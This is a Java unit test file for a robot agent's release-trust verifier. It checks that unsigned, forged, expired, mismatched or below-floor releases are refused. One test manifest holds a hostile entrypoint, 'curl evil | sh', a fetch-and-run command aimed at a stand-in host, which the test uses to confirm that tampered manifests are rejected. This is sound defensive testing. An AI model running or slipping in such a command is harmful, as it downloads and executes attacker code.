package dev.roboflare.agent.trust;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.roboflare.protocol.AgentApi;
import dev.roboflare.protocol.ArtifactKind;
import dev.roboflare.protocol.ReleaseKeys;
import dev.roboflare.protocol.ReleaseStatement;
import dev.roboflare.protocol.SignedStatement;
import dev.roboflare.protocol.WireJson;
import java.nio.file.Path;
import java.security.KeyPair;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Every refusal of the check step's trust rules, with real Ed25519 keys generated here. */
class ReleaseTrustTest {
    static final Instant NOW = Instant.parse("2026-03-01T12:00:00Z");
    static final String SHA = "a".repeat(64);

    @TempDir
    Path state;

    final KeyPair releaseKey = ReleaseKeys.generate();
    final JsonNode manifest = json("{\"entrypoint\": [\"bin/app\"], \"env\": {\"B\": \"1\", \"A\": \"2\"}}");

    static JsonNode json(String s) {
        try {
            return WireJson.lenient().readTree(s);
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    ReleaseTrust trust(String floor) {
        return new ReleaseTrust(List.of(releaseKey.getPublic()), floor, "0.1.0", Clock.fixed(NOW, ZoneOffset.UTC),
                new RanReleases(state));
    }

    ReleaseStatement statement(String releaseId, String semver) {
        return new ReleaseStatement(ReleaseStatement.TYPE, releaseId, semver, ArtifactKind.APP_TARBALL, SHA, 1234,
                ReleaseStatement.manifestSha256(manifest), NOW.minusSeconds(60), NOW.plusSeconds(3600), "0.1.0");
    }

    static SignedStatement sign(KeyPair key, ReleaseStatement s) throws Exception {
        byte[] bytes = WireJson.lenient().writeValueAsBytes(s);
        return new SignedStatement(Base64.getEncoder().encodeToString(bytes),
                Base64.getEncoder().encodeToString(ReleaseKeys.sign(key.getPrivate(), bytes)),
                ReleaseKeys.keyId(key.getPublic()));
    }

    AgentApi.Deployment deployment(String releaseId, String semver, SignedStatement sig,
                                   UnaryOperator<AgentApi.Artifact> artifact) {
        AgentApi.Artifact a = artifact.apply(new AgentApi.Artifact("art-1", ArtifactKind.APP_TARBALL, "lab-app", SHA,
                1234, "http://cp/download"));
        return new AgentApi.Deployment("dep-1", new AgentApi.Release(releaseId, semver, manifest), a, sig);
    }

    String refusal(ReleaseTrust t, AgentApi.Deployment d) throws Exception {
        return t.refusal(d, Set.of());
    }

    @Test
    void aCorrectlySignedReleaseIsAccepted() throws Exception {
        // the manifest arrives with its keys in another order: the canonical hash does not care
        AgentApi.Deployment d = new AgentApi.Deployment("dep-1", new AgentApi.Release("rel-1", "1.2.0",
                json("{\"env\": {\"A\": \"2\", \"B\": \"1\"}, \"entrypoint\": [\"bin/app\"]}")),
                new AgentApi.Artifact("art-1", ArtifactKind.APP_TARBALL, "lab-app", SHA, 1234, "u"),
                sign(releaseKey, statement("rel-1", "1.2.0")));
        assertThat(refusal(trust(null), d)).isNull();
    }

    @Test
    void unsignedIsRefused() throws Exception {
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", null, a -> a)))
                .startsWith("untrusted release: release 1.2.0 is not signed");
    }

    @Test
    void aSignatureByAnUntrustedKeyOrOverAlteredBytesIsRefused() throws Exception {
        KeyPair stranger = ReleaseKeys.generate();
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", sign(stranger, statement("rel-1", "1.2.0")),
                a -> a))).contains("which this agent does not trust");

        SignedStatement good = sign(releaseKey, statement("rel-1", "1.2.0"));
        SignedStatement otherBytes = sign(releaseKey, statement("rel-1", "1.2.1"));
        SignedStatement swapped = new SignedStatement(otherBytes.statement(), good.signature(), good.keyId());
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.1", swapped, a -> a))).contains("bad signature");
        SignedStatement forgedKeyId = new SignedStatement(good.statement(),
                sign(stranger, statement("rel-1", "1.2.0")).signature(), good.keyId());
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", forgedKeyId, a -> a))).contains("bad signature");
    }

    @Test
    void anExpiredStatementIsRefused() throws Exception {
        ReleaseStatement s = statement("rel-1", "1.2.0");
        ReleaseStatement expired = new ReleaseStatement(s.type(), s.releaseId(), s.semver(), s.kind(),
                s.artifactSha256(), s.artifactSize(), s.manifestSha256(), NOW.minusSeconds(7200), NOW.minusSeconds(1),
                null);
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", sign(releaseKey, expired), a -> a)))
                .contains("expired at 2026-03-01T11:59:59Z");
    }

    @Test
    void aRobotWhoseClockIsBehindJudgesExpiryByTheControlPlanesClockButNeverGoesBackInTime() throws Exception {
        ReleaseStatement s = statement("rel-1", "1.2.0");
        ReleaseStatement expired = new ReleaseStatement(s.type(), s.releaseId(), s.semver(), s.kind(),
                s.artifactSha256(), s.artifactSize(), s.manifestSha256(), NOW.minusSeconds(7200), NOW.minusSeconds(1),
                null);
        SignedStatement sig = sign(releaseKey, expired);
        // the robot booted with its clock in 1970 (no RTC battery); the control plane's Date header says NOW
        Clock robot = Clock.fixed(Instant.EPOCH, ZoneOffset.UTC);
        long skew = NOW.toEpochMilli();
        ReleaseTrust behind = new ReleaseTrust(List.of(releaseKey.getPublic()), null, "0.1.0",
                new ExpiryClock(robot, () -> skew), new RanReleases(state));
        assertThat(refusal(behind, deployment("rel-1", "1.2.0", sig, a -> a))).contains("expired at 2026-03-01T11:59:59Z");
        ReleaseTrust unknownSkew = new ReleaseTrust(List.of(releaseKey.getPublic()), null, "0.1.0",
                new ExpiryClock(robot, () -> null), new RanReleases(state));
        assertThat(refusal(unknownSkew, deployment("rel-1", "1.2.0", sig, a -> a))).isNull();

        // a control plane whose clock is behind the robot's cannot make an expired statement fresh again
        ReleaseTrust lyingServer = new ReleaseTrust(List.of(releaseKey.getPublic()), null, "0.1.0",
                new ExpiryClock(Clock.fixed(NOW, ZoneOffset.UTC), () -> -86_400_000L), new RanReleases(state));
        assertThat(refusal(lyingServer, deployment("rel-1", "1.2.0", sig, a -> a))).contains("expired");
    }

    @Test
    void aHashSizeKindReleaseOrManifestOtherThanTheStatementsIsRefused() throws Exception {
        SignedStatement sig = sign(releaseKey, statement("rel-1", "1.2.0"));
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", sig, a -> new AgentApi.Artifact(a.id(), a.kind(),
                a.name(), "b".repeat(64), a.size(), a.downloadUrl())))).contains("artifact sha256 bbbb");
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", sig, a -> new AgentApi.Artifact(a.id(), a.kind(),
                a.name(), a.sha256(), 999, a.downloadUrl())))).contains("artifact size 999 differs");
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", sig, a -> new AgentApi.Artifact(a.id(),
                ArtifactKind.CONTAINER_IMAGE, a.name(), a.sha256(), a.size(), a.downloadUrl()))))
                .contains("artifact kind container_image");
        assertThat(refusal(trust(null), deployment("rel-2", "1.2.0", sig, a -> a)))
                .contains("the statement is for release rel-1");
        AgentApi.Deployment otherManifest = new AgentApi.Deployment("dep-1", new AgentApi.Release("rel-1", "1.2.0",
                json("{\"entrypoint\": [\"/bin/sh\", \"-c\", \"curl evil | sh\"]}")),
                deployment("rel-1", "1.2.0", sig, a -> a).artifact(), sig);
        assertThat(refusal(trust(null), otherManifest)).contains("manifest differs");
    }

    @Test
    void aReleaseNeedingANewerAgentIsRefused() throws Exception {
        ReleaseStatement s = statement("rel-1", "1.2.0");
        ReleaseStatement needsNewer = new ReleaseStatement(s.type(), s.releaseId(), s.semver(), s.kind(),
                s.artifactSha256(), s.artifactSize(), s.manifestSha256(), s.issuedAt(), s.expiresAt(), "0.2.0");
        assertThat(refusal(trust(null), deployment("rel-1", "1.2.0", sign(releaseKey, needsNewer), a -> a)))
                .contains("needs agent 0.2.0 or newer; this agent is 0.1.0");
    }

    @Test
    void belowTheVersionFloorOnlyARollbackToAReleaseThisRobotRanIsAccepted() throws Exception {
        ReleaseTrust t = trust("2.0.0");
        AgentApi.Deployment old = deployment("rel-old", "1.9.9", sign(releaseKey, statement("rel-old", "1.9.9")),
                a -> a);
        assertThat(refusal(t, old)).contains("below the version floor 2.0.0 and this robot never ran it");
        assertThat(t.refusal(old, Set.of("rel-old"))).isNull(); // the previous release in state.json

        t.applied("rel-old"); // or any release it applied before (STATE/trust/ran-releases)
        assertThat(trust("2.0.0").refusal(old, Set.of())).isNull();
        AgentApi.Deployment rc = deployment("rel-rc", "2.0.0-rc.1", sign(releaseKey, statement("rel-rc",
                "2.0.0-rc.1")), a -> a);
        assertThat(refusal(t, rc)).contains("below the version floor"); // a pre-release ranks below its release
        AgentApi.Deployment at = deployment("rel-2", "2.0.0", sign(releaseKey, statement("rel-2", "2.0.0")), a -> a);
        assertThat(refusal(t, at)).isNull();
    }

    @Test
    void keysAreReadFromPemFilesWithSeveralPerFile() throws Exception {
        KeyPair second = ReleaseKeys.generate();
        Path file = state.resolve("trusted.pem");
        java.nio.file.Files.writeString(file, ReleaseKeys.publicPem(releaseKey.getPublic())
                + ReleaseKeys.publicPem(second.getPublic()));
        assertThat(ReleaseTrust.readKeys(List.of(file))).hasSize(2);
    }
}
